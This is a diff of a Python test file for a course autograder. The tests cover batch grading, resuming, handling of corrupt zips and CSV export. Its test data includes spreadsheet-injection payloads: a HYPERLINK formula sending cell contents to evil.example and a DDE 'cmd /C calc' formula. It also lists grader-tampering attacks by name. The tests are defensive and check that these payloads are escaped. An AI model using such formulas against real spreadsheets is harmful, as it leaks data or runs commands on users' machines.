@@ -1,5 +1,6 @@
 """Batch grading of a class: a mixed class of 20 grades to the expected gradebook, unreadable
 submissions are skipped, identical ones are graded once, and an interrupted batch resumes."""
+
 from __future__ import annotations
 
 import csv
@@ -25,10 +26,24 @@ from autograder.execution import sandbox
 from autograder.grading.mistake_registry import all_mistakes, load_mistakes, write_mutant
 
 TASKS = ("sigmoid_forward", "tanh_forward", "relu_forward", "sgd")
-MISTAKES = ("sigmoid_forward_naive_exp", "sigmoid_forward_in_float32", "sigmoid_forward_branches_swapped",
-            "relu_forward_overwrites_x", "sgd_ignores_weight_decay", "sgd_updates_w_in_place")
-ATTACKS = ("patch_numpy", "patch_grader", "ndarray_subclass", "always_equal", "exit_during_call", "infinite_loop",
-           "nan_results", "forge_protocol")
+MISTAKES = (
+    "sigmoid_forward_naive_exp",
+    "sigmoid_forward_in_float32",
+    "sigmoid_forward_branches_swapped",
+    "relu_forward_overwrites_x",
+    "sgd_ignores_weight_decay",
+    "sgd_updates_w_in_place",
+)
+ATTACKS = (
+    "patch_numpy",
+    "patch_grader",
+    "ndarray_subclass",
+    "always_equal",
+    "exit_during_call",
+    "infinite_loop",
+    "nan_results",
+    "forge_protocol",
+)
 SETTINGS = Settings(TASKS, "quick", limits=sandbox.Limits(timeout=3, memory_mb=512))
 
 
@@ -124,7 +139,8 @@ def test_a_mixed_class_grades_to_the_expected_gradebook_and_resumes(course, tmp_
     assert [(e.student, e.problem) for e in outcome.problems] == [
         ("empty", f"{unreadable[0]}: none of the course's files found"),
         ("broken", f"{unreadable[1]}: not a readable zip file (File is not a zip file)"),
-        ("missing", f"{unreadable[2]}: no such file or folder")]
+        ("missing", f"{unreadable[2]}: no such file or folder"),
+    ]
     progress = capsys.readouterr().err
     assert progress.count("(already graded)") == 8 and "[23/23]" in progress
     # the gradebook holds every result once, and which student handed in what
@@ -136,17 +152,23 @@ def test_a_mixed_class_grades_to_the_expected_gradebook_and_resumes(course, tmp_
     assert {s: json.loads(r) for s, r in stored.items()} == {e.student: r for e, r in outcome.graded}
     # exports: one CSV row per student (unreadable ones with 0 points and why), and per-student
     # JSON and Gradescope results
-    export([(e.student, r) for e, r in outcome.graded], tmp_path / "out", [(e.student, e.problem) for e in outcome.problems])
+    export(
+        [(e.student, r) for e, r in outcome.graded],
+        tmp_path / "out",
+        [(e.student, e.problem) for e in outcome.problems],
+    )
     with open(tmp_path / "out/grades.csv", newline="", encoding="utf-8-sig") as table:
         rows = list(csv.DictReader(table))
     assert [r["student"] for r in rows] == list(expected) + ["empty", "broken", "missing"]
     for row, (entry, result) in zip(rows, outcome.graded):
         assert float(row["score"]) == result["score"] and row["problem"] == ""
         assert float(row["a1_optimizers/sgd"]) == next(t["score"] for t in result["tasks"] if t["task"] == "sgd")
-        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text()) == {"student": entry.student,
-                                                                                             **result}
+        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text()) == {
+            "student": entry.student,
+            **result,
+        }
         assert json.loads((tmp_path / f"out/gradescope/{entry.student}.json").read_text())["score"] == result["score"]
-    for row, entry in zip(rows[len(outcome.graded):], outcome.problems):
+    for row, entry in zip(rows[len(outcome.graded) :], outcome.problems):
         assert (float(row["score"]), float(row["a1_optimizers/sgd"]), row["problem"]) == (0, 0, entry.problem)
         assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text())["problem"] == entry.problem
 
@@ -168,12 +190,26 @@ def test_a_killed_batch_resumes_without_regrading(tmp_path):
         (tmp_path / f"s{i}/optimizers.py").write_text(f"{source}\n# student {i}\n")
         paths.append(str(tmp_path / f"s{i}"))
     book = tmp_path / "book.sqlite"
-    command = [sys.executable, "-m", "autograder", "grade", *paths, "--only", "sgd", "momentum", "--quick",
-               "--jobs", "1", "--gradebook", str(book)]
+    command = [
+        sys.executable,
+        "-m",
+        "autograder",
+        "grade",
+        *paths,
+        "--only",
+        "sgd",
+        "momentum",
+        "--quick",
+        "--jobs",
+        "1",
+        "--gradebook",
+        str(book),
+    ]
     (tmp_path / "tmp").mkdir()  # what the killed run cannot clean up stays here
     environment = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path / "tmp")}
-    batch = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=subprocess.DEVNULL,
-                             stderr=subprocess.DEVNULL, start_new_session=True)
+    batch = subprocess.Popen(
+        command, cwd=ROOT, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
+    )
     for _ in range(2400):
         if _graded_rows(book):
             break
@@ -190,11 +226,14 @@ def test_a_killed_batch_resumes_without_regrading(tmp_path):
     assert rerun.stdout.count("total 3/3") == 5
 
 
-@pytest.mark.parametrize("content, words", [
-    (b"", "not a readable zip file"),
-    (None, "none of the course's files found"),
-    ("huge", "larger than 2 MiB"),
-])
+@pytest.mark.parametrize(
+    "content, words",
+    [
+        (b"", "not a readable zip file"),
+        (None, "none of the course's files found"),
+        ("huge", "larger than 2 MiB"),
+    ],
+)
 def test_an_unreadable_zip_is_skipped_not_fatal(course, tmp_path, content, words):
     archive = tmp_path / "upload.zip"
     if content is None:  # a zip holding only unsafe or foreign paths
@@ -219,27 +258,32 @@ IN_PROCESS = Settings(("relu_forward",), "quick", isolated=False)
 def _corrupt_zip(archive: Path, kind: str) -> Path:
     """A zip of a correct foundations.py whose member cannot be read: its compressed data garbled
     (deflate: zlib.error, bzip2: OSError, lzma: LZMAError) or its method unknown (NotImplementedError)."""
-    method = {"deflate": zipfile.ZIP_DEFLATED, "bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.get(kind, zipfile.ZIP_STORED)
+    method = {"deflate": zipfile.ZIP_DEFLATED, "bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.get(
+        kind, zipfile.ZIP_STORED
+    )
     with zipfile.ZipFile(archive, "w", method) as bundle:
         bundle.writestr("foundations.py", HONEST)
     data = bytearray(archive.read_bytes())
     if kind == "method":
         central = data.rfind(b"PK\x01\x02")
-        data[8:10] = data[central + 10:central + 12] = (99).to_bytes(2, "little")
+        data[8:10] = data[central + 10 : central + 12] = (99).to_bytes(2, "little")
     else:
         start = 30 + len("foundations.py")  # the only member's data follows its local header
-        data[start + 8:start + 40] = b"\xff" * 32
+        data[start + 8 : start + 40] = b"\xff" * 32
     archive.write_bytes(bytes(data))
     return archive
 
 
-@pytest.mark.parametrize("kind, words", [
-    ("deflate", "not a readable zip file (Error -3 while decompressing data"),
-    ("bzip2", "not a readable zip file (Invalid data stream)"),
-    ("lzma", "not a readable zip file (Corrupt input data)"),
-    ("method", "not a readable zip file (That compression method is not supported)"),
-    ("unreadable", "cannot be read (PermissionError: [Errno 13] Permission denied"),
-])
+@pytest.mark.parametrize(
+    "kind, words",
+    [
+        ("deflate", "not a readable zip file (Error -3 while decompressing data"),
+        ("bzip2", "not a readable zip file (Invalid data stream)"),
+        ("lzma", "not a readable zip file (Corrupt input data)"),
+        ("method", "not a readable zip file (That compression method is not supported)"),
+        ("unreadable", "cannot be read (PermissionError: [Errno 13] Permission denied"),
+    ],
+)
 def test_a_submission_that_cannot_be_read_is_its_problem_not_the_batch(course, tmp_path, monkeypatch, kind, words):
     (tmp_path / "honest").mkdir()
     (tmp_path / "honest/foundations.py").write_text(HONEST)
@@ -283,13 +327,32 @@ def test_a_file_name_that_is_not_text_is_graded_and_shown_escaped(course, tmp_pa
 
 
 def _result(score: float) -> dict:
-    return {"score": score, "max_score": 1.0, "profile": "quick", "timing": {"seconds": 0.1}, "tasks": [
-        {"assignment": "a0_foundations", "task": "relu_forward", "score": score, "max_score": 1.0,
-         "status": "passed", "checks": []}]}
+    return {
+        "score": score,
+        "max_score": 1.0,
+        "profile": "quick",
+        "timing": {"seconds": 0.1},
+        "tasks": [
+            {
+                "assignment": "a0_foundations",
+                "task": "relu_forward",
+                "score": score,
+                "max_score": 1.0,
+                "status": "passed",
+                "checks": [],
+            }
+        ],
+    }
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(tmp_path):
@@ -299,17 +362,37 @@ def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
     with open(tmp_path / "grades.csv", newline="", encoding="utf-8-sig") as table:
         rows = list(csv.reader(table))[1:]
     # a leading tab or carriage return is shown as a visible escape, which no spreadsheet runs
-    assert [r[0] for r in rows] == ["'" + name for name in FORMULAS[:4]] + ["\\x09=1+1", "\\x0d=1+1",
-                                                                          "'=cmd|' /C calc'!A0"]
+    assert [r[0] for r in rows] == ["'" + name for name in FORMULAS[:4]] + [
+        "\\x09=1+1",
+        "\\x0d=1+1",
+        "'=cmd|' /C calc'!A0",
+    ]
     assert all(r[1] == "-1.5" and r[3] == "-1.5" for r in rows[:-1])  # a negative number is a number
     assert rows[-1][1:] == ["0.0", "1.0", "0.0", "'=1+1 broken"]
-    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
-                or cell.startswith("-") and cell != "-1.5"]
+    assert not [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-") and cell != "-1.5"
+    ]
 
 
 def test_export_file_names_keep_every_script_and_never_collapse(tmp_path):
-    students = ["김민수", "박지훈", "이영희", "Zoë", "a/b", "a:b", "Alice", "alice", "", "???", "CON", ".hidden",
-                "\u1100\u1161"]  # the last: 가 in decomposed form (as macOS file names have it)
+    students = [
+        "김민수",
+        "박지훈",
+        "이영희",
+        "Zoë",
+        "a/b",
+        "a:b",
+        "Alice",
+        "alice",
+        "",
+        "???",
+        "CON",
+        ".hidden",
+        "\u1100\u1161",
+    ]  # the last: 가 in decomposed form (as macOS file names have it)
     names = file_names(students)
     assert names[:4] == ["김민수", "박지훈", "이영희", "Zoë"] and names[10:12] == ["_CON", "hidden"]
     assert len({n.casefold() for n in names}) == len(students)  # distinct, even on a case-blind file system
@@ -326,8 +409,9 @@ def test_export_file_names_keep_every_script_and_never_collapse(tmp_path):
 def test_a_class_with_a_corrupt_zip_formula_and_korean_names_is_graded_and_exported_whole(course, tmp_path):
     """`course grade class/* --export`: everyone gets a CSV row and a result file of their own,
     the honest are graded as they deserve, and the rerun does the same from the gradebook."""
-    wrong_relu = HONEST.replace("return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()",
-                                "return np.abs(x), x.copy()")
+    wrong_relu = HONEST.replace(
+        "return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()", "return np.abs(x), x.copy()"
+    )
     assert wrong_relu != HONEST
     root = tmp_path / "class"
     students = {"김민수": HONEST, "이영희": wrong_relu, '=HYPERLINK("evil.example","click")': HONEST}
@@ -341,26 +425,66 @@ def test_a_class_with_a_corrupt_zip_formula_and_korean_names_is_graded_and_expor
     _corrupt_zip(root / "corrupt.zip", "deflate")
     paths = sorted(root.iterdir())
     out, book = tmp_path / "export", tmp_path / "book.sqlite"
-    command = ["grade", *paths, "--only", "relu_forward", "sigmoid_forward", "--quick", "--jobs", "1",
-               "--gradebook", book, "--export", out, "--format", "json", "--out", tmp_path / "results.json"]
+    command = [
+        "grade",
+        *paths,
+        "--only",
+        "relu_forward",
+        "sigmoid_forward",
+        "--quick",
+        "--jobs",
+        "1",
+        "--gradebook",
+        book,
+        "--export",
+        out,
+        "--format",
+        "json",
+        "--out",
+        tmp_path / "results.json",
+    ]
     for run in range(2):
         ran = course_command(*command)
         assert ran.returncode == 0, ran.stderr
         assert ran.stderr.count("(already graded)") == 5 * run
         with open(out / "grades.csv", newline="", encoding="utf-8-sig") as table:
             rows = {row["student"]: row for row in csv.DictReader(table)}
-        assert set(rows) == {"김민수", "이영희", "박지훈", "'=HYPERLINK(\"evil.example\",\"click\")",
-                             "'@SUM(1+9)*cmd|calc", "corrupt"}
-        scores = {name: (float(r["score"]), r["a0_foundations/relu_forward"], r["problem"][-60:])
-                  for name, r in rows.items()}
+        assert set(rows) == {
+            "김민수",
+            "이영희",
+            "박지훈",
+            '\'=HYPERLINK("evil.example","click")',
+            "'@SUM(1+9)*cmd|calc",
+            "corrupt",
+        }
+        scores = {
+            name: (float(r["score"]), r["a0_foundations/relu_forward"], r["problem"][-60:]) for name, r in rows.items()
+        }
         assert scores["김민수"] == scores["박지훈"] == scores["'@SUM(1+9)*cmd|calc"] == (3.0, "1.0", "")
         assert scores["이영희"] == (2.0, "0.0", "")  # |x| for relu: wrong values; its purity pays only with them
-        assert scores["corrupt"][:2] == (0.0, "0.0") and "Error -3 while decompressing data" in rows["corrupt"]["problem"]
+        assert (
+            scores["corrupt"][:2] == (0.0, "0.0") and "Error -3 while decompressing data" in rows["corrupt"]["problem"]
+        )
         files = sorted(p.name for p in (out / "results").iterdir())
-        assert files == sorted(["김민수.json", "이영희.json", "박지훈.json", "=HYPERLINK(_evil.example_,_click_).json",
-                                "@SUM(1+9)_cmd_calc.json", "corrupt.json"])
+        assert files == sorted(
+            [
+                "김민수.json",
+                "이영희.json",
+                "박지훈.json",
+                "=HYPERLINK(_evil.example_,_click_).json",
+                "@SUM(1+9)_cmd_calc.json",
+                "corrupt.json",
+            ]
+        )
         named = {json.loads((out / "results" / f).read_text())["student"] for f in files}
-        assert named == {"김민수", "이영희", "박지훈", '=HYPERLINK("evil.example","click")', "@SUM(1+9)*cmd|calc", "corrupt"}
+        assert named == {
+            "김민수",
+            "이영희",
+            "박지훈",
+            '=HYPERLINK("evil.example","click")',
+            "@SUM(1+9)*cmd|calc",
+            "corrupt",
+        }
         assert len(list((out / "gradescope").iterdir())) == 6
     listed = json.loads((tmp_path / "results.json").read_text())["submissions"]
     assert [s["student"] for s in listed] == [p.name.removesuffix(".zip") for p in paths if p.name != "corrupt.zip"]
